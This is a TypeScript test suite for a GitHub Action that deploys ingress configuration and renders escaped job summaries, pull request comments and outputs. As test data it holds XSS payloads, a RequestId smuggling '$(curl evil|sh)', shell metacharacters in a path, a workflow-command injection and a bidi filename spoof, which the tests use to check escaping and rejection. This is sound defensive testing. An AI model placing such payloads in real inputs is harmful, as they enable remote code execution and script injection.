import fc from 'fast-check'
import type { IngressFile } from '../src/engine/ingress/types.js'
import { planChanges } from '../src/engine/plan/plan.js'
import { COMMENT_LIMIT, commentMarker, fitComment, renderComment, renderStaleComment } from '../src/action/report/comment.js'
import { cell, escapeMarkdown, link } from '../src/action/report/markdown.js'
import { renderOutputs } from '../src/action/report/outputs.js'
import type { RunReport } from '../src/action/report/report.js'
import { renderSummary } from '../src/action/report/summary.js'
import { ruleUrls } from '../src/engine/ingress/urls.js'
import { displayUrl } from '../src/engine/text/display-url.js'
import { MAX_VALUE_CHARS } from '../src/engine/text/clip.js'

const live: IngressFile = {
  IngressId: 87,
  ListenerPort: 80,
  ListenerProtocol: 'HTTP',
  RequestTimeout: 60,
  Rules: [{ appId: 'app-web', appName: 'web', containerPort: 8080, domain: 'www.example.com', path: '/' }]
}
const file: IngressFile = {
  IngressId: 87,
  RequestTimeout: 30,
  Rules: [
    { appId: 'app-web', containerPort: 8080, domain: 'www.example.com', path: '/' },
    { appId: 'app-api', containerPort: 9090, domain: 'api.example.com', path: '/v1' }
  ]
}

function report(overrides: Partial<RunReport> = {}): RunReport {
  return {
    mode: 'replace',
    dryRun: false,
    file: 'deploy/ingress.json',
    ingressId: 87,
    regionId: 'cn-hangzhou',
    ingress: file,
    live,
    plan: planChanges(file, live, 'replace'),
    urls: ruleUrls(file),
    outcome: 'updated',
    update: { requestId: 'REQ-1', traceId: 'TRACE-1', attempts: 1 },
    warnings: [],
    ...overrides
  }
}

describe('rule URLs', () => {
  test.each<[string, IngressFile, string[]]>([
    ['http on the default port', { ListenerProtocol: 'HTTP', ListenerPort: 80, Rules: file.Rules }, ['http://www.example.com/', 'http://api.example.com/v1']],
    ['https', { ListenerProtocol: 'HTTPS', ListenerPort: '443', Rules: file.Rules!.slice(0, 1) }, ['https://www.example.com/']],
    ['a non-default port', { ListenerProtocol: 'HTTP', ListenerPort: 8080, Rules: file.Rules!.slice(0, 1) }, ['http://www.example.com:8080/']],
    ['no listener settings', { Rules: [{ appId: 'a', containerPort: 1, domain: 'Mixed.Example.com', path: '/x' }] }, ['http://mixed.example.com/x']],
    [
      'a path with what a shell would act on, percent-encoded',
      { Rules: [{ appId: 'a', containerPort: 1, domain: 'a.example.com', path: '/x;id|sh&$HOME(1)*?[a]{b}\\!^/%41:@,=+~' }] },
      ['http://a.example.com/x%3Bid%7Csh%26%24HOME%281%29%2A%3F%5Ba%5D%7Bb%7D%5C%21%5E/%41:@,=+~']
    ]
  ])('%s', (_name, ingress, urls) => expect(ruleUrls(ingress)).toEqual(urls))
})

describe('job summary', () => {
  test('shows target, result, plan with markers and before → after, and the rules with URLs', () => {
    const md = renderSummary(report())
    expect(md).toContain('### ✅ Ingress updated')
    expect(md).toMatch(/\| \*\*Ingress\*\* \| 87 \|/)
    expect(md).toMatch(/\| \*\*Region\*\* \| cn-hangzhou \|/)
    expect(md).toMatch(/\| \*\*RequestId\*\* \| REQ-1 \|/)
    expect(md).toMatch(/\| \*\*TraceId\*\* \| TRACE-1 \|/)
    expect(md).toMatch(/\| ✏️ changed \| setting RequestTimeout \| 60 \| 30 \|/)
    expect(md).toMatch(/\| ➕ added \| rule api\.example\.com\/v1 \| — \| app-api :9090 \|/)
    expect(md).toContain('1 other rule(s) unchanged.')
    expect(md).toMatch(/\| api\.example\.com \| \/v1 \| app-api \| 9090 \| <http:\/\/api\.example\.com\/v1> \|/)
  })

  test.each<[string, Partial<RunReport>, RegExp]>([
    ['already up to date', { outcome: 'unchanged', plan: planChanges(live, live, 'replace'), update: undefined }, /already up to date[\s\S]*No changes\./],
    ['a dry run', { outcome: 'planned', dryRun: true, update: undefined }, /Dry run: nothing was written/],
    ['offline validation', { outcome: 'validated-offline', plan: undefined, update: undefined }, /valid \(offline dry run/],
    ['a failure', { outcome: 'failed', error: 'UpdateIngress failed: X' }, /❌[\s\S]*\*\*Error:\*\* UpdateIngress failed: X/],
    ['a rollback', { outcome: 'failed', rollback: { ok: true, message: 'restored', requestId: 'RB-1' } }, /rolled back[\s\S]*\*\*Rollback:\*\* ✅ restored \(RequestId RB-1\)/],
    ['a health check', { health: { url: 'https://x/health', ok: false, attempts: 3, status: 503 } }, /\*\*Health check:\*\* ❌ `https:\/\/x\/health` answered HTTP 503 after 3/],
    ['a health check URL with its query redacted', { health: { url: 'https://x/health?token=abc&v=1', ok: true, attempts: 1, status: 200 } }, /`https:\/\/x\/health\?token=\*\*\*&v=\*\*\*` answered/],
    ['what did not take', { outcome: 'failed', verification: { ok: false, unmet: ['rule a/ is missing'], reads: 3, reapplies: 0 } }, /#### Did not take\n\n- rule a\/ is missing/]
  ])('%s', (_name, overrides, expected) => expect(renderSummary(report(overrides))).toMatch(expected))

  test('user text from the file cannot inject markup or break the tables', () => {
    const hostile: IngressFile = {
      ...file,
      Rules: [{ appId: '<img src=x onerror=alert(1)>', containerPort: 1, domain: 'a|b.example.com', path: '/`x`' }]
    }
    const md = renderSummary(report({ ingress: hostile, plan: planChanges(hostile, live, 'replace'), error: '<script>alert(1)</script>' }))
    expect(md).not.toMatch(/<img|<script/)
    expect(md).toContain('&lt;script&gt;')
    expect(md).toContain('a\\|b.example.com')
    expect(md.split('\n').filter(line => line.startsWith('| a')).every(line => line.split(/(?<!\\)\|/).length === 7)).toBe(true)
  })

  test('validation problems are listed with line and column', () => {
    const md = renderSummary(report({ outcome: 'failed', plan: undefined, problems: [{ message: 'bad <port>', pointer: '/ListenerPort', line: 4, column: 19 }] }))
    expect(md).toMatch(/\| 4 \| 19 \| bad &lt;port&gt; \|/)
  })
})

describe('pull request comment', () => {
  test('carries the hidden marker, the preview URLs, the plan and the result', () => {
    const body = renderComment(report(), 87, 'https://github.com/o/r/actions/runs/1')
    expect(body.startsWith(commentMarker(87))).toBe(true)
    expect(body).toContain('- <http://api.example.com/v1>')
    expect(body).toContain('<summary>Plan (replace)</summary>')
    expect(body).toContain('✅ Deployed. RequestId REQ-1.')
    expect(body).toContain('[Workflow run](https://github.com/o/r/actions/runs/1)')
  })

  test('in remove mode it says the preview is gone', () => {
    const body = renderComment(report({ mode: 'remove' }), 87)
    expect(body).toContain('Preview removed from SAE ingress 87')
    expect(body).toContain('are no longer served')
  })

  test('markers differ per ingress, so two ingresses keep two comments', () => expect(commentMarker(1)).not.toBe(commentMarker(2)))
})

test.each([
  ['a|b', 'a\\|b'],
  ['<b>', '&lt;b&gt;'],
  ['line\nbreak', 'line<br>break'],
  ['[link](x)', '\\[link\\]\\(x\\)'],
  ['a & b\r\nc\rd', 'a &amp; b<br>c<br>d'],
  ['*_`~+!{}', '\\*\\_\\`\\~\\+\\!\\{\\}'],
  ['ping @alice and @octo/team', 'ping `@alice` and `@octo/team`'],
  ['fixes #12, octo/web#3 and GH-7', 'fixes `#12,` `octo/web#3` and `GH-7`'],
  ['see https://github.com/o/r/issues/1', 'see `https://github.com/o/r/issues/1`'],
  ['or www.phish.example/login and (www.x.example)', 'or `www.phish.example/login` and `(www.x.example)`'],
  ['awww.example stays', 'awww.example stays'],
  ['(@alice)', '`(@alice)`'],
  ['a|@b', 'a\\|`@b`'],
  ['admin\u202Egnp.exe', 'admin\\[U\\+202E\\]gnp.exe'],
  ['zero\u200Bwidth\u00ADsoft', 'zero\\[U\\+200B\\]width\\[U\\+00AD\\]soft'],
  ['C:\\dir', 'C:\\\\dir']
])('escapeMarkdown(%p)', (raw, expected) => expect(escapeMarkdown(raw)).toBe(expected))

describe('escapeMarkdown, for any text', () => {
  const markdownish = fc.string({ unit: fc.constantFrom(...'&<>\\`*_{}[]()#+!|~@:/\r\n\u202e\u200bab .-'.split('')) })
  const anyText = fc.oneof(markdownish, fc.string(), fc.string({ unit: 'binary' }))
  /** CommonMark's reading: a backslash escapes the next character; an unescaped backtick opens a code span. */
  function split(md: string): { rest: string; spans: string[] } {
    let rest = ''
    const spans: string[] = []
    for (let i = 0; i < md.length; i++) {
      if (md[i] === '\\') {
        rest += md.slice(i, i + 2)
        i += 1
      } else if (md[i] === '`' && md.indexOf('`', i + 1) > 0) {
        const end = md.indexOf('`', i + 1)
        spans.push(md.slice(i + 1, end))
        i = end
      } else rest += md[i]
    }
    return { rest, spans }
  }
  const outsideCodeSpans = (md: string) => split(md).rest
  const codeSpans = (md: string) => split(md).spans

  test('leaves no markup, no line break, no raw table pipe and no invisible character', () => {
    fc.assert(
      fc.property(anyText, text => {
        const md = escapeMarkdown(text, Infinity)
        const rest = outsideCodeSpans(md)
        expect(rest.replace(/<br>/g, '')).not.toMatch(/[<>\r\n\u2028\u2029\u202e\u200b]/)
        expect(rest).not.toMatch(/(?<!\\)[|`*_[\]()!~+{}]/)
        expect(rest).not.toMatch(/&(?!amp;|lt;|gt;)/)
      }),
      { numRuns: 2000, seed: 20261129 }
    )
  })

  test('every @ and # sits in a code span, where GitHub neither mentions nor links', () => {
    fc.assert(
      fc.property(anyText, text => {
        const md = escapeMarkdown(text, Infinity)
        expect(outsideCodeSpans(md)).not.toMatch(/[@#]/)
        for (const span of codeSpans(md)) expect(span).not.toMatch(/[\s`|<>]/)
      }),
      { numRuns: 2000, seed: 20261130 }
    )
  })

  test('text without anything special is unchanged', () => {
    fc.assert(fc.property(fc.stringMatching(/^[A-Za-z0-9 .,;=/-]*$/), text => expect(escapeMarkdown(text, Infinity)).toBe(text)))
  })

  test('a long value is cut with a marker', () => {
    const md = escapeMarkdown('x'.repeat(10_000))
    expect(md.length).toBeLessThan(MAX_VALUE_CHARS + 40)
    expect(md).toMatch(/… \\\[8976 more characters\\\]$/)
  })
})

test('a rule URL becomes a link only when it is a plain http(s) URL', () => {
  expect(link('https://pr-1.example.com/a(b)')).toBe('<https://pr-1.example.com/a(b)>')
  expect(link('http://a/<b>')).toBe('`http://a/`&lt;b&gt;')
})

test('cells show absent values as a dash and objects as JSON', () => {
  expect([cell(undefined), cell(''), cell({ a: 1 }), cell(5)]).toEqual(['—', '—', '\\{"a":1\\}', '5'])
})

describe('what a value cannot do in the summary and the comment', () => {
  const hostileLive: IngressFile = {
    ...live,
    Description: 'was @someone',
    // A live answer can hold anything, whatever the type says.
    Rules: [{ appId: 'app-web', appName: 'web @alice', containerPort: 8080, domain: 'www.example.com', path: '/', backendProtocol: '<img src=x> | @bob' as 'http' }]
  }
  const hostileFile: IngressFile = { ...file, Description: 'cc @security-team about #1 \u202Eevil' }
  const hostile = report({ ingress: hostileFile, live: hostileLive, plan: planChanges(hostileFile, hostileLive, 'replace') })

  test.each([
    ['summary', () => renderSummary(hostile)],
    ['comment', () => renderComment(hostile, 87)]
  ])('%s: mentions and references from values sit in code spans; bidi controls show as code points', (_where, render) => {
    const md = render()
    expect(md).toContain('`@security-team`')
    expect(md).toContain('`#1`')
    expect(md).toContain('\\[U\\+202E\\]evil')
    expect(md).not.toMatch(/\u202E|<img/)
    expect(md).not.toMatch(/(^|[^`])@(alice|bob|security-team|someone)/)
  })

  test('a live backend protocol is escaped like any value (it used to reach the table raw)', () => {
    const removed = renderSummary(report({ live: hostileLive, plan: planChanges({ ...file, Rules: file.Rules!.slice(1) }, hostileLive, 'replace') }))
    const row = removed.split('\n').find(line => line.includes('➖ removed'))!
    expect(row).toContain('(&lt;img src=x&gt; \\| `@bob`)')
    expect(row.split(/(?<!\\)\|/).length - 2).toBe(4)
  })

  test('a 10 KB value adds at most about 1 KB to the summary and the comment', () => {
    const long: IngressFile = { ...file, Description: 'd'.repeat(10_000) }
    const withLong = report({ ingress: long, plan: planChanges(long, live, 'replace') })
    expect(renderSummary(withLong).length - renderSummary(report()).length).toBeLessThan(MAX_VALUE_CHARS + 100)
    expect(renderComment(withLong, 87).length - renderComment(report(), 87).length).toBeLessThan(MAX_VALUE_CHARS + 100)
  })
})

describe('the comment stays within GitHub\'s limit', () => {
  const longDescription = (n: number) => `${n}-${'v'.repeat(MAX_VALUE_CHARS)}`
  const manyRules: IngressFile = {
    ...file,
    Rules: Array.from({ length: 40 }, (_, i) => ({ appId: longDescription(i), containerPort: 8080, domain: `r${i}.example.com`, path: `/${'p'.repeat(900)}` }))
  }
  const big = report({ ingress: manyRules, urls: ruleUrls(manyRules), plan: planChanges(manyRules, live, 'replace'), outcome: 'failed', error: 'e'.repeat(50_000) })

  test('a plan too long for a comment is left to the job summary, with a link to the run', () => {
    const body = renderComment(big, 87, 'https://github.com/o/r/actions/runs/1')
    expect(body.length).toBeLessThanOrEqual(COMMENT_LIMIT)
    expect(body.startsWith(commentMarker(87))).toBe(true)
    expect(body).toContain('is too long for a comment: it is in the job summary of the [workflow run](https://github.com/o/r/actions/runs/1)')
    expect(body).toContain('❌ Deployment failed.')
  })

  test('whatever still does not fit is cut at a line, open details closed, with a note', () => {
    const body = `${commentMarker(1)}\n<details><summary>x</summary>\n\n${'row\n'.repeat(30_000)}</details>\n`
    const fitted = fitComment(body, 'https://run')
    expect(fitted.length).toBeLessThanOrEqual(COMMENT_LIMIT)
    expect(fitted).toMatch(/row\n\n<\/details>\n\n✂️ This comment was cut at \d+ of \d+ characters \(GitHub allows 65536\); the full report is in the job summary of the \[workflow run\]\(https:\/\/run\)\.\n$/)
    expect(fitComment('short', 'https://run')).toBe('short')
  })

  test('the out-of-date note keeps the marker and claims nothing', () => {
    const note = renderStaleComment(87, 'https://run')
    expect(note.startsWith(commentMarker(87))).toBe(true)
    expect(note).toMatch(/out of date/)
    expect(note).not.toMatch(/✅|Deployed/)
  })
})

test.each([
  ['https://pr-1.example.com/health', 'https://pr-1.example.com/health'],
  ['https://x/health?token=s3cret&v=1#frag', 'https://x/health?token=***&v=***'],
  ['https://x/health?s3cret', 'https://x/health?***'],
  ['https://user:pw@x:8443/h', 'https://***@x:8443/h'],
  ['not a url?token=s3cret', 'not a url?***'],
  ['user:pw@host/x', '***']
])('displayUrl(%p) = %p', (url, shown) => expect(displayUrl(url)).toBe(shown))

describe('outputs scripts read', () => {
  test('a RequestId or TraceId that is not an ID is not passed on (the summary still shows it)', () => {
    const hostile = report({ update: { requestId: 'R1"; $(curl evil|sh) #', traceId: 'T\n::warning::x', attempts: 1 } })
    const outputs = Object.fromEntries(renderOutputs(hostile))
    expect(outputs['request-id']).toBeUndefined()
    expect(outputs['trace-id']).toBeUndefined()
    expect(renderSummary(hostile)).toContain('R1"; $\\(curl evil\\|sh\\) `#`')
  })

  test('service IDs as the service writes them pass', () => {
    const outputs = Object.fromEntries(renderOutputs(report({ update: { requestId: '9B07ACA0-B1FF-4783-BFCA-0F30A261141A', traceId: '8aff24d1721f34bee35552b00ca1bf', attempts: 1 } })))
    expect(outputs).toMatchObject({ 'request-id': '9B07ACA0-B1FF-4783-BFCA-0F30A261141A', 'trace-id': '8aff24d1721f34bee35552b00ca1bf' })
  })
})

test('the drift issue names its file with mentions and references inert, never inside a code span they could end', async () => {
  const { renderDriftBody } = await import('../src/action/report/drift.js')
  const heading = renderDriftBody(report({ file: 'deploy/a @octo/admins #1 x.json', ingressId: 87 }), new Date(0)).split('\n')[0]
  expect(heading).toBe('### The live ingress 87 differs from deploy/a `@octo/admins` `#1` x.json')
})
